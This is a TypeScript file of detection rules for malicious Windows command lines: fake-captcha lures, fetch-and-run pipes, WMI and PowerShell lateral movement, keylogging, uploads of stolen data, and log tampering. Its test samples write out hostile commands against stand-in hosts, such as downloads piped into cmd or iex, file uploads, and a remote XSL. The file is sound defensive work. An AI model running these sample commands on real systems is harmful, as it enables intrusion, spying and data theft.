/** What a script on Windows reaches for: people who are lured, other machines, keys and screens, the network. */
import { behaviour } from './behaviour.ts';
import { hostClass } from './places.ts';
import { all, any, arg, holds, inputsOf, onProcess, onScene, onText, said, standsAlone, type Row } from './row.ts';
import { urlOf, urlText, oddUrl } from './windows-scripts.ts';

export const WINDOWS_REACH: readonly Row[] = [
  behaviour('lure-text', ['lure', 'T1204.004', 'initial-access', 'critical', 'high'], {
    reason:
      'The line carries words for a person (a captcha, a verification number): somebody was talked into pasting it.',
    benign: [],
    hits: [
      'powershell -c "dir" # I am not a robot - reCAPTCHA Verification ID: 1234',
      'msiexec /i https://a.example.net/v.msi /qn # Press OK to verify you are human',
    ],
    misses: ['npm install recaptcha-v3 --save'],
    look: onText([
      'not a robot',
      'verification id',
      'verification hash',
      'verify you are human',
      'verify that you are human',
      'human verification',
      'captcha verification',
      'captcha id',
      'cloudflare verification',
      'press ok to',
      'security verification',
      'identification:',
      'ray id',
      'ʀᴏʙᴏᴛ',
      '✅',
      '🤖',
    ]),
  }),
  behaviour('lure-site', ['lure', 'T1204.004', 'initial-access', 'high', 'medium'], {
    reason: 'The address that is fetched pretends to check that the user is human.',
    benign: [],
    hits: [
      'mshta https://verify-human-check.example.top/a.mp4',
      'powershell irm https://captcha-verify.example.net/a|iex',
    ],
    misses: ['curl https://www.google.com/recaptcha/api/siteverify'],
    look: onProcess(
      ['mshta', 'msiexec', 'invoke-webrequest', 'invoke-restmethod', '.downloadstring', 'curl', 'certutil', 'rundll32'],
      (process) => {
        const url = urlOf(process);
        return url !== undefined &&
          /(?:captcha|human|verif|robot|not-?bot|cloudf?la?re?-)/.test(urlText(url)) &&
          hostClass(urlText(url)) !== 'vendor'
          ? url
          : undefined;
      },
    ),
  }),
  behaviour('network-into-shell', ['fetch-run', 'T1059.003', 'execution', 'critical', 'high'], {
    reason: 'What comes from the network is piped into a command interpreter.',
    benign: [],
    hits: [
      'cmd /c "finger user@203.0.113.9 | cmd"',
      'curl http://a.example.net/x | cmd',
      'type \\\\203.0.113.9\\a\\x.txt | powershell -',
    ],
    misses: ['type a.txt | findstr x', 'echo y | cmd'],
    look: onProcess(['cmd', 'powershell', 'pwsh'], (process, scene) =>
      inputsOf(process, scene).find(
        ({ name, args }) =>
          /^(?:finger|curl|wget|nslookup|ftp|tftp|certutil|nc|ncat|\.downloadstring|invoke-webrequest|invoke-restmethod)$/.test(
            name,
          ) || args.some(({ lower }) => lower.startsWith('\\\\')),
      ),
    ),
  }),
  behaviour('ps-remote-session', ['remote-run', 'T1021.006', 'lateral-movement', 'medium', 'low'], {
    reason: 'A command or session is opened on another computer.',
    benign: ['administration of servers'],
    hits: [
      'powershell "Invoke-Command -ComputerName srv1 -ScriptBlock { whoami }"',
      'powershell "Enter-PSSession srv1"',
    ],
    misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
    look: onProcess(
      ['invoke-command', 'enter-pssession', 'new-pssession', 'winrs', 'new-cimsession'],
      any(
        arg(/^-(?:co\w*|cn|session|vmname|hostname)$/),
        all((process) => (/enter-pssession|winrs/.test(process.name) && process.args.length > 0 ? process : undefined)),
      ),
    ),
  }),
  behaviour('ps-com-launch', ['com-launch', 'T1559.001', 'execution', 'medium', 'medium'], {
    reason: 'A script asks a system object (Shell, Excel, MMC) to start programs or fetch for it.',
    benign: ['scripts that make shortcuts'],
    hits: [
      "powershell \"$a=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','203.0.113.9'))\"",
      "powershell \"(New-Object -ComObject MsXml2.ServerXmlHttp).Open('GET','http://a')\"",
    ],
    misses: ['powershell "(New-Object -ComObject WScript.Shell).CreateShortcut(\'a.lnk\')"'],
    look: onText([
      'mmc20.application',
      'gettypefromclsid',
      'gettypefromprogid',
      'msxml2.',
      'xmlhttp',
      'internetexplorer.application',
      'excel.application',
      'shellbrowserwindow',
      'winhttp.winhttprequest',
      'schedule.service',
      'document.application',
      'shellwindows',
      'word.application',
      'htmlfile',
      'outlook.application',
    ]),
  }),
  behaviour('wmi-start', ['remote-run', 'T1047', 'execution', 'high', 'low'], {
    reason: 'A program is started through WMI, which makes the service its parent and works across the network.',
    benign: ['management tools'],
    hits: [
      'wmic process call create notepad.exe',
      'powershell "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc"',
      "powershell \"([wmiclass]'Win32_Process').Create('calc')\"",
    ],
    misses: ['wmic process get name', 'wmic process where name="a.exe" call terminate'],
    look: onProcess(
      ['wmic', 'invoke-wmimethod', 'invoke-cimmethod', '.create', 'wmiexec', 'set-wmiinstance'],
      (process, scene) => {
        if (process.name === '.create')
          return [process, ...inputsOf(process, scene)].some(({ program }) => /win32_process/i.test(program))
            ? process
            : undefined;
        const words = said(process);
        if (process.name === 'wmic') return /(?:^|\s)process\b.*\bcreate\b/.test(words) ? process : undefined;
        return /win32_process/.test(words) && words.includes('create') ? process : undefined;
      },
    ),
  }),
  behaviour('wmi-remote', ['remote-run', 'T1047', 'lateral-movement', 'high', 'medium'], {
    reason: "WMI starts a program on another computer, or with another user's password in the line.",
    benign: ['administration without remote PowerShell'],
    hits: ['wmic /node:10.1.2.3 process call create calc.exe'],
    misses: ['wmic /node:srv1 os get caption'],
    look: onProcess(['wmic'], all(arg(/^\/(?:node|user|password)[:=]/), arg(/^create$/))),
  }),
  behaviour('wmic-script', ['proxy-remote', 'T1220', 'defense-evasion', 'critical', 'high'], {
    reason:
      'WMIC formats its output by a style sheet from the network or a folder of the user, which runs the scripts in it.',
    benign: [],
    hits: ['wmic os get /format:"https://a.example.net/a.xsl"', 'wmic process list /format:evil.xsl'],
    misses: ['wmic os get caption /format:list', 'wmic process get name /format:csv'],
    look: onProcess(['wmic'], arg(/^\/format:"?(?:https?:|\\\\|\S{1,200}\.xsl)/)),
  }),
  behaviour('keys-and-screens', ['spying', 'T1056.001', 'collection', 'high', 'high'], {
    reason: 'Keys that are typed or pictures of the screen are recorded.',
    benign: ['remote support'],
    hits: [
      'powershell "[API]::GetAsyncKeyState($k)"',
      'powershell "$g.CopyFromScreen(0,0,0,0,$s)"',
      'psr.exe /start /output C:\\x.zip /sc 1 /gui 0',
    ],
    misses: ['powershell "Get-Process"'],
    look: onText([
      'getasynckeystate',
      'setwindowshookex',
      'getforegroundwindow',
      'copyfromscreen',
      'get-keystrokes',
      'psr.exe /start',
      'psr /start',
      'getkeyboardstate',
      'get-timedscreenshot',
    ]),
  }),
  behaviour('ps-upload', ['exfiltration', 'T1041', 'exfiltration', 'medium', 'medium'], {
    reason: 'Data is sent out with the web client of PowerShell or .NET.',
    benign: ['scripts that call a web service'],
    hits: [
      "powershell \"(New-Object Net.WebClient).UploadFile('http://a.example.net/u','C:\\x.zip')\"",
      'powershell "iwr http://203.0.113.9/u -Method POST -InFile C:\\x.zip"',
    ],
    misses: ['powershell "iwr https://api.corp.example/v1 -Method GET"'],
    look: onProcess(
      [
        '.uploadfile',
        '.uploaddata',
        '.uploadstring',
        'invoke-webrequest',
        'invoke-restmethod',
        'send-mailmessage',
        '.sendasync',
      ],
      any(
        (process) =>
          process.name.startsWith('.') ||
          (process.name === 'send-mailmessage' && process.args.some(({ lower }) => lower.startsWith('-attach')))
            ? process
            : undefined,
        arg(/^-inf(?:ile)?$/),
        all(arg(/^(?:post|put)$/), (process) => oddUrl(process)),
      ),
    ),
  }),
  behaviour('curl-upload-odd', ['exfiltration', 'T1048', 'exfiltration', 'high', 'medium'], {
    reason: 'A file is sent to an address that no vendor uses.',
    benign: ['test uploads'],
    hits: ['curl -T C:\\x.zip http://203.0.113.9/', 'curl -F "file=@C:\\x.zip" http://203.0.113.9:8080/u'],
    misses: ['curl -T a.zip https://artifacts.corp.example/a.zip'],
    look: onProcess(
      ['curl'],
      all(
        ({ args }) =>
          args.find(
            ({ text }) =>
              /^(?:-[TF]|--upload-file|--form|--data-binary)$/.test(text) || /^[\w-]{1,30}=@|^@[\w/\\]/.test(text),
          ),
        (process) => oddUrl(process),
      ),
    ),
  }),
  behaviour('ps-clipboard-run', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
    reason: 'What is in the clipboard is run as a command.',
    benign: [],
    hits: ['powershell "iex (Get-Clipboard)"', 'echo ifconfig | pbcopy; $(pbpaste)'],
    misses: ['powershell "Get-Clipboard -Raw"', 'pbpaste > a.txt'],
    look: onScene(({ processes, layers }) => {
      const clip = processes.find(({ name }) => name === 'get-clipboard' || name === 'pbpaste');
      if (clip === undefined) return undefined;
      const isRun =
        processes.some(
          ({ name, input }) => input === clip.index && /^(?:invoke-expression|sh|bash|zsh|\$\()/.test(name),
        ) ||
        (layers[clip.layer]?.lower.includes('$(pbpaste') === true &&
          processes.some(({ program }) => program.startsWith('$(pbpaste')));
      return isRun ? { layer: clip.layer, start: clip.span.start, end: clip.span.end } : undefined;
    }),
  }),
  behaviour('ps-profile-write', ['persistence-profile', 'T1546.013', 'persistence', 'high', 'medium'], {
    reason: 'The profile that every PowerShell reads at its start is written.',
    benign: ['developers set up their shell'],
    hits: ['powershell "Add-Content $profile \'calc\'"', 'powershell "echo x > $PROFILE.AllUsersAllHosts"'],
    misses: ['powershell "Test-Path $profile"'],
    look: onProcess(
      ['add-content', 'set-content', 'out-file', 'echo', 'copy-item', 'write-output'],
      holds('$profile', 'microsoft.powershell_profile.ps1', '$pshome\\profile.ps1'),
    ),
  }),
  behaviour('ps-log-off', ['defence-tamper', 'T1562.002', 'defense-evasion', 'high', 'medium'], {
    reason: 'Logging of PowerShell or its history is switched off.',
    benign: ['privacy settings of a developer'],
    hits: [
      'powershell "Set-PSReadLineOption -HistorySaveStyle SaveNothing"',
      'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging /v EnableScriptBlockLogging /d 0',
    ],
    misses: ['powershell "Get-PSReadLineOption"'],
    look: onText(
      [
        'savenothing',
        'enablescriptblocklogging',
        'enablemodulelogging',
        'enabletranscripting',
        'consolehost_history',
        '.historysavepath',
      ],
      ({ lower }, at, literal) =>
        (literal === 'savenothing' ||
          /(?:remove-item|\bdel\b|\brm\b|clear|set-content|\/d 0|value 0|-type dword -value 0|\$false)/.test(lower)) &&
        standsAlone({ lower } as never, at, literal),
    ),
  }),
];
